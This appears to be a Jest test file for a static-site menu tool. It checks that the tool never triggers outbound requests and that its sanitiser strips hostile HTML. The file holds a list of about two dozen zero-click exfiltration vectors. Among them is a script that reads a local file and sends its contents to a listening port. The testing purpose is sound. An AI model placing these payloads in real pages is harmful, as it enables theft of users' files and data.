import { type Server, createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { afterAll, beforeAll, describe, expect, it, test } from '@jest/globals';
import fc from 'fast-check';
import { harmfulSpans } from '../../src/core/page/harmless.ts';
import { rawOf, splice } from '../../src/core/text/bytes.ts';
import { eventually, open, useBrowser } from '../helpers/browser.ts';
import { folderWith, kaminoBeside, page, put } from '../helpers/site.ts';

// Pages that want out, looked at in a real browser beside a port that counts who calls.
let server: Server;
let port = '';
const heard: string[] = [];
useBrowser();
beforeAll(async () => {
  server = createServer((request, response) => {
    heard.push(request.url!);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('heard');
  });
  await new Promise<void>(ready => server.listen(0, '127.0.0.1', ready));
  port = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});
afterAll(() => {
  server.closeAllConnections();
  server.close();
});

/** Every way out of a page that the standard has and that needs no click; each calls by a name of its own. */
const waysOut = (to: string): Record<string, string> => ({
  script: `<script>fetch('${to}/script')</script>`,
  outside: `<script src="${to}/outside"></script>`,
  module: `<script type="module">import('${to}/module')</script>`,
  picture: `<img src="${to}/picture">`,
  event: `<img src="data:," onerror="fetch('${to}/event')">`,
  srcset: `<img srcset="${to}/srcset 1x">`,
  svg: `<svg><image href="${to}/svg"/><script>fetch('${to}/svg-script')</script></svg>`,
  sheet: `<link rel="stylesheet" href="${to}/sheet">`,
  style: `<style>@import url(${to}/import); p { background: url(${to}/ground) }</style>`,
  attribute: `<p style="background:url(${to}/attribute)">x</p>`,
  frame: `<iframe src="${to}/frame"></iframe>`,
  srcdoc: `<iframe srcdoc="&lt;img src='${to}/srcdoc'&gt;"></iframe>`,
  object: `<object data="${to}/object"></object><embed src="${to}/embed">`,
  video: `<video poster="${to}/poster" src="${to}/video" autoplay></video>`,
  refresh: `<meta http-equiv="refresh" content="0; url=${to}/refresh">`,
  preload: `<link rel="preload" as="image" href="${to}/preload">`,
  icon: `<link rel="icon" href="${to}/icon">`,
  input: `<input type="image" src="${to}/input" autofocus onfocus="fetch('${to}/focus')">`,
  body: `<body background="${to}/body" onload="fetch('${to}/load')">`,
  toggle: `<details open ontoggle="fetch('${to}/toggle')"><summary>x</summary></details>`,
  motion: `<svg><animate attributeName="x" begin="0s" onbegin="fetch('${to}/motion')"/></svg>`,
  post: `<form id="f" action="${to}/post"></form><script>document.forms.f.submit()</script>`,
  socket: `<script>new WebSocket('${to.replace('http', 'ws')}/socket'); navigator.sendBeacon('${to}/beacon')</script>`,
});

const menu =
  '<div class="nav"><a href="index.html">Home</a> <a href="a.html">A</a> <a href="b.html">B</a></div>';
const look = '<style>.nav{--mine:rgb(34,68,102);background:var(--mine)}.nav a{color:#fec}</style>';
const site = (more: string, secret: string): string => {
  const steal = `<script>fetch('${pathToFileURL(secret).href}').then(r=>r.text()).then(t=>fetch('${port}/stolen?'+encodeURIComponent(t)))</script>`;
  const html = (path: string): string =>
    page(path, menu).replace('</head>', `${look}</head>`).replace('<body>', `<body>${steal}${more}`);
  return folderWith({ 'index.html': html('index.html'), 'a.html': html('a.html'), 'b.html': html('b.html') });
};

describe('a page that wants out', () => {
  it('calls where it stands in a browser by itself, so that the port hears', async () => {
    heard.length = 0;
    const tab = await open(
      pathToFileURL(join(site(waysOut(port)['picture']!, '/nowhere'), 'index.html')).href,
    );
    await eventually(
      () => Promise.resolve(heard),
      all => expect(all).toContain('/picture'),
    );
    await tab.context().close();
  });

  it('reaches nothing when its look is drafted, and the look is read all the same', async () => {
    heard.length = 0;
    const secret = join(folderWith({ 'secret.txt': 'a secret' }), 'secret.txt');
    const folder = site(Object.values(waysOut(port)).join('\n'), secret);
    const { status, out } = await kaminoBeside(folder, 'draft', '--dry-run');
    expect([status, heard]).toEqual([0, []]);
    expect(out).toContain('background: "#224466"');
  });

  it('reaches nothing when its finished form is measured, nor from a specimen', async () => {
    heard.length = 0;
    const piece = Object.values(waysOut(port)).join('\n');
    const folder = site(piece, '/etc/hostname');
    const plan =
      'kamino: 1\nmenus:\n  - menu: m\n    place: { first-in: body }\n    entries:\n      - index.html\n      - a.html\n';
    put(folder, { 'kamino.yaml': plan });
    expect((await kaminoBeside(folder, 'build')).status).not.toBe(2);
    const measured = await kaminoBeside(folder, 'measure', '--browser', '--json');
    const { seen } = JSON.parse(measured.out) as { seen: { menus: { menu: string }[] }[] };
    expect(seen.flatMap(one => one.menus.map(other => other.menu))).toContain('m');
    expect((await kaminoBeside(folder, 'specimen', '--out', 's.html', '--png', 's.png')).status).toBe(0);
    expect(heard).toEqual([]);
  });
});

test('nothing that runs, frames, sends on or reaches out is left in a copy', () => {
  const ways = Object.values(waysOut('http://away.example'));
  const parts = fc.array(
    fc.constantFrom(
      ...ways,
      ...ways.map(one => one.toUpperCase()),
      menu,
      '<p>',
      '</p>',
      '<!--',
      '-->',
      '<template>',
      '</template>',
      '<noscript>',
      '<svg>',
      '<td>',
      '&#104;ttp:',
    ),
  );
  fc.assert(
    fc.property(parts, all => {
      const raw = rawOf(Buffer.from(`<!doctype html><title>x</title>${all.join('')}`));
      const once = splice(raw, harmfulSpans(raw, { name: 'utf-8', declared: true }));
      expect(harmfulSpans(once, { name: 'utf-8', declared: true })).toEqual([]);
    }),
    { numRuns: Number(process.env['KAMINO_RUNS'] ?? 300) },
  );
});
